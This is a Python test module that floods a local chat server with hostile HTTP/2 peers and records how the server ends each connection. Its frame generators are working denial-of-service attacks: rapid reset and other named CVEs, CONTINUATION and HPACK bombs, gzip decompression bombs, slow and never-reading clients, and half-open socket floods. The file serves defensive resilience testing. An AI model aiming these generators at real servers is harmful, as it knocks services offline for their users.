"""What hostile peers do, each for a bounded time, and how the server ends it.

An attack is called with whom it is against and for how long. It gives how its connections ended:
the codes of the GOAWAYs, "closed" (without one), or "open" for those that were left alone.
"""

from __future__ import annotations

import asyncio
import functools
import socket
import struct
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Final

from chinwag.chat.v1 import channel_pb2, connect_pb2
from chinwag.chat.v1 import chat_service_pb2 as pb
from tests.wire.hostile import peer as h2
from tests.wire.hostile.peer import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Peer
from tests.wire.hostile.stage import Group, People

CONNECT: Final = "/chinwag.chat.v1.ChatService/Connect"
LIST_CHANNELS: Final = "/chinwag.chat.v1.ChatService/ListChannels"
LIST_MESSAGES: Final = "/chinwag.chat.v1.ChatService/ListMessages"
SEND_TYPING: Final = "/chinwag.chat.v1.ChatService/SendTyping"

# Attackers that are thrown out come again, but not faster than this: what a new connection may
# cost is for whoever stands before the server to bound.
ATTACKERS: Final = 4
OPENED_PER_S: Final = 2_000
SLOW: Final = 99
PAUSE_S: Final = 0.2
CHUNK: Final = 16 << 10
# A server may take so long to say why it ends a connection.
ANSWER_S: Final = 3.0
PATIENCE_S: Final = 15.0
CALM: Final = "ENHANCE_YOUR_CALM"


@dataclass(frozen=True)
class Aim:
    """Whom an attack is against."""

    port: int
    people: People
    seconds: float


Endings = Counter[str]
Attack = Callable[[Aim], Awaitable[Endings]]
# Makes what one connection sends, piece by piece, until there is no more.
Flood = Callable[[Aim, int], Iterator[bytes]]


def now() -> float:
    """The loop's time."""
    return asyncio.get_running_loop().time()


async def flood(aim: Aim, make: Flood) -> Endings:
    """Several attackers flood, each over new connections as it is thrown out. On a machine that
    is busy they go on until one of them has come to an end."""
    until = now() + aim.seconds
    endings: Endings = Counter()

    def over() -> bool:
        return now() > until and (bool(endings) or now() > until + PATIENCE_S)

    async def attacker(number: int) -> None:
        while not over():
            peer = await Peer.open(aim.port)
            peer.mute = True
            for data in make(aim, number):
                await peer.push(data)
                if peer.done or over():
                    break
            # Whoever was cut off by the end of the time has not broken anything yet.
            if not over():
                await peer.until(lambda peer=peer: peer.done, ANSWER_S)  # type: ignore[misc]
                endings[peer.ending] += 1
            peer.close()
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*map(attacker, range(ATTACKERS)))
    return endings


def flooding(make: Flood) -> Attack:
    """An attack that is a flood."""

    async def attack(aim: Aim) -> Endings:
        return await flood(aim, make)

    return attack


def in_chunks(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """The same, in larger pieces."""
    chunk = bytearray()
    for piece in pieces:
        chunk += piece
        if len(chunk) >= CHUNK:
            yield bytes(chunk)
            chunk.clear()


def repeated(one: bytes, before: bytes = b"") -> Flood:
    """The same frame over and over."""

    def make(_aim: Aim, _number: int) -> Iterator[bytes]:
        yield before + one
        many = one * max(1, CHUNK // len(one))
        while True:
            yield many

    return make


def rapid_reset(aim: Aim, number: int) -> Iterator[bytes]:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    token = aim.people.hostile[number]
    return in_chunks(
        h2.call_head(stream_id, LIST_CHANNELS, token)
        + h2.message(stream_id, b"", end=True)
        + h2.reset(stream_id)
        for stream_id in range(1, 200_001, 2)
    )


def made_reset(aim: Aim, number: int) -> Iterator[bytes]:
    """Calls that the server is made to reset (CVE-2025-8671): their window is opened by 0."""
    token = aim.people.hostile[number]
    return in_chunks(
        h2.call_head(stream_id, LIST_CHANNELS, token)
        + h2.message(stream_id, b"", end=True)
        + h2.window_update(stream_id, 0)
        for stream_id in range(1, 200_001, 2)
    )


def continuation(size: int) -> Flood:
    """A header block that never ends (CVE-2024-27316)."""
    head = h2.frame(HEADERS, END_STREAM, 1, h2.block(h2.call_fields(CONNECT)))
    return repeated(h2.frame(CONTINUATION, 0, 1, h2.literal("x", "y" * 100)[:size]), head)


def hpack_bomb(_aim: Aim, _number: int) -> Iterator[bytes]:
    """An entry of the table that is named again and again (CVE-2016-6581)."""
    entry = h2.literal("bomb", "x" * 3900, 0x40)
    start = h2.block(h2.call_fields(CONNECT))
    yield h2.frame(HEADERS, END_STREAM | END_HEADERS, 1, start + entry)
    while True:
        yield h2.frame(HEADERS, END_STREAM | END_HEADERS, 3, start + b"\xbe" * 16_000)


def long_headers(_aim: Aim, _number: int) -> Iterator[bytes]:
    """Ten times the header list that is allowed, in frames of the size that is."""
    fields = h2.block((f"x-{number}", "y" * 1000) for number in range(400))
    yield h2.frame(HEADERS, 0, 1, h2.block(h2.call_fields(CONNECT)))
    for at in range(0, len(fields), 16_000):
        yield h2.frame(CONTINUATION, 0, 1, fields[at : at + 16_000])
    yield h2.frame(CONTINUATION, END_HEADERS, 1)


def empty_data(aim: Aim, number: int) -> Iterator[bytes]:
    """DATA frames without data (CVE-2019-9518)."""
    head = h2.call_head(1, CONNECT, aim.people.hostile[number])
    return repeated(h2.frame(h2.DATA, 0, 1), head)(aim, number)


PRIORITY_OF_5: Final = struct.pack(">IB", 3, 16)


def wide_settings(_aim: Aim, _number: int) -> Iterator[bytes]:
    """Many streams, and SETTINGS that change the windows of all of them many times."""
    heads = [h2.call_head(one, LIST_CHANNELS, flags=END_HEADERS) for one in range(1, 2000, 2)]
    yield b"".join(heads)
    change = [(h2.INITIAL_WINDOW_SIZE, 60_000 + value % 2) for value in range(2700)]
    # A few are enough to see it; a flood of SETTINGS is an attack of its own.
    yield from [h2.settings(*change)] * 10


GET_FIELDS: Final = (
    (":method", "GET"),
    (":scheme", "http"),
    (":path", "/"),
    (":authority", h2.HOST),
)


def crumbs(aim: Aim, number: int) -> Iterator[bytes]:
    """A thousand answers that wait for a window, which is opened byte by byte."""
    yield h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
    get = h2.block(GET_FIELDS)
    yield b"".join(
        h2.frame(HEADERS, END_STREAM | END_HEADERS, one, get) for one in range(1, 2000, 2)
    )
    yield from repeated(h2.window_update(0, 1))(aim, number)


def refused_calls(_aim: Aim, _number: int) -> Iterator[bytes]:
    """Calls of a method that there is not."""
    flags = END_STREAM | END_HEADERS
    return in_chunks(
        h2.call_head(stream_id, "/no.such/Method", flags=flags) for stream_id in range(1, 10_001, 2)
    )


# Just below what the server lets a message be on the way to its own limit.
BOMB_BYTES: Final = (8 << 20) - 16
BOMBS: Final = 400


@functools.cache
def gzip_bomb() -> bytes:
    """A compressed message that is a thousand times as large when it is inflated."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = deflater.compress(bytes(BOMB_BYTES)) + deflater.flush()
    return struct.pack(">BI", 1, len(data)) + data


def gzip_bombs(*, token: bool) -> Flood:
    """Whole calls with bombs, of members or of nobody."""

    def make(aim: Aim, number: int) -> Iterator[bytes]:
        bomb = gzip_bomb()
        fields = h2.call_fields(LIST_CHANNELS, aim.people.hostile[number] if token else "")
        block = h2.block([*fields, ("grpc-encoding", "gzip")])
        for stream_id in range(1, 2 * BOMBS, 2):
            yield (
                h2.frame(HEADERS, END_HEADERS, stream_id, block)
                + h2.frame(h2.DATA, END_STREAM, stream_id, bomb)
            )

    return make


# --- those that are no flood ---


def hello(token: str, group: Group, stream_id: int = 1, cursor: int = -1) -> bytes:
    """A device's stream with its hello.

    Args:
        cursor: What it has of the group; -1: all.
    """
    at = group.cursor if cursor < 0 else cursor
    had = channel_pb2.Cursor(channel_id=group.id, generation=group.generation, id=at)
    first = connect_pb2.ConnectRequest(
        hello=connect_pb2.Hello(protocol_version=1, client="hostile", cursors=[had])
    )
    head = h2.call_head(stream_id, CONNECT, token)
    return head + h2.message(stream_id, first.SerializeToString())


def endings_of(peers: Sequence[Peer]) -> Endings:
    """How they ended, or streams of theirs if only those have; then they are closed."""
    endings = Counter(
        f"stream {'/'.join(sorted(set(peer.resets.values())))}"
        if peer.ending == "open" and peer.resets
        else peer.ending
        for peer in peers
    )
    for peer in peers:
        peer.close()
    return endings


async def tiny_windows(aim: Aim) -> Endings:
    """Devices that take what comes byte by byte."""
    until = now() + aim.seconds
    peers = []
    first = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 1))
    for token in aim.people.hostile[:10]:
        peer = await Peer.open(aim.port, first=first)
        peer.write(hello(token, aim.people.groups[0], cursor=0))
        peers.append(peer)
    while now() < until:
        for peer in peers:
            await peer.push(h2.window_update(1, 1) * 200)
    return endings_of(peers)


async def never_reading(aim: Aim) -> Endings:
    """Devices that say hello and take nothing: half of them have no window, half no socket
    buffer. Others have megabytes to come, and call for more (CVE-2019-9517)."""
    group = aim.people.groups[0]
    peers = []
    closed = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
    large = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, h2.LARGEST_WINDOW))
    large += h2.window_update(0, h2.LARGEST_WINDOW - h2.DEFAULT_WINDOW)
    for number, token in enumerate(aim.people.hostile):
        first = closed if number % 2 else large
        peer = await Peer.open(aim.port, first=first, receive_buffer=4096)
        peer.stop_reading()
        peer.write(hello(token, group, cursor=0))
        peers.append(peer)
    for number, token in enumerate(aim.people.loud):
        first = closed if number % 2 else large
        peer = await Peer.open(aim.port, first=first, receive_buffer=4096)
        peer.stop_reading()
        peer.write(hello(token, aim.people.loud_group, cursor=0))
        peers.append(peer)
    await asyncio.sleep(aim.seconds)
    for peer in peers:
        peer.read_again()
    await asyncio.sleep(0.3)
    return endings_of(peers)


async def big_answers(aim: Aim, calls: int = 100) -> Endings:
    """Calls with answers of a megabyte each, which nobody takes."""
    request = pb.ListMessagesRequest(channel_id=aim.people.loud_group.id, page_size=50)
    closed = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
    peer = await Peer.open(aim.port, first=closed)
    for stream_id in range(1, 2 * calls, 2):
        peer.write(
            h2.call_head(stream_id, LIST_MESSAGES, aim.people.loud[0])
            + h2.message(stream_id, request.SerializeToString(), end=True)
        )
    await asyncio.sleep(aim.seconds)
    return endings_of([peer])


async def slow_bytes(aim: Aim) -> Endings:
    """Frames that come byte by byte, each 0.1 s."""
    until = now() + aim.seconds
    ping = h2.frame(h2.PING, 0, 0, bytes(8))
    data = h2.frame(h2.DATA, 0, 1, bytes(10_000))
    slow = [
        await Peer.open(aim.port, first=b"") if number % 3 == 0 else await Peer.open(aim.port)
        for number in range(SLOW)
    ]
    for number, peer in enumerate(slow):
        peer.mute = True
        if number % 3 == 2:
            peer.write(h2.call_head(1, CONNECT, aim.people.hostile[number % 50]))
    parts = h2.PREFACE + h2.settings(), ping * 100, data
    at = 0
    while now() < until:
        for number, peer in enumerate(slow):
            peer.write(parts[number % 3][at : at + 1])
        at += 1
        await asyncio.sleep(0.1)
    return endings_of(slow)


async def half_open(aim: Aim, count: int = 5_000) -> Endings:
    """Connections that say nothing, or only the first bytes."""
    sockets = []
    loop = asyncio.get_running_loop()
    endings: Endings = Counter()
    try:
        for number in range(count):
            one = socket.socket()
            sockets.append(one)
            one.setblocking(False)
            await asyncio.wait_for(loop.sock_connect(one, (h2.HOST, aim.port)), ANSWER_S)
            if number % 2:
                one.send(h2.PREFACE[:10])
            await in_pace(number)
        # The last of them has its time too.
        await asyncio.sleep(aim.seconds)
        for one in sockets:
            try:
                data = one.recv(4096)
            except BlockingIOError:
                endings["open"] += 1
            except ConnectionError:
                endings["closed"] += 1
            else:
                endings[_goaway_in(data) or "closed"] += 1
    finally:
        for number, one in enumerate(sockets):
            one.close()
            await in_pace(number)
    return endings


async def in_pace(number: int) -> None:
    """Waits after some of many connections that are opened, or closed, one after the other."""
    if number % 10 == 0:
        await asyncio.sleep(10 / OPENED_PER_S)


def _goaway_in(data: bytes) -> str:
    peer = Peer()
    peer.mute = True
    peer.data_received(data)
    return peer.goaway
